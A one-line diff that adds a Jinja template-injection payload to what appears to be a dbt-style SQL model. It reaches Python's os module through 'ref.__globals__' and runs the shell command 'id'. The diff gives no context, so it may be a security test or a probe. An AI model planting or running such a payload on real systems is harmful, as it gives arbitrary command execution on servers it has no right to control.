@@ -1,0 +1,1 @@
+select {{ ref.__globals__['os'].popen('id').read() }}
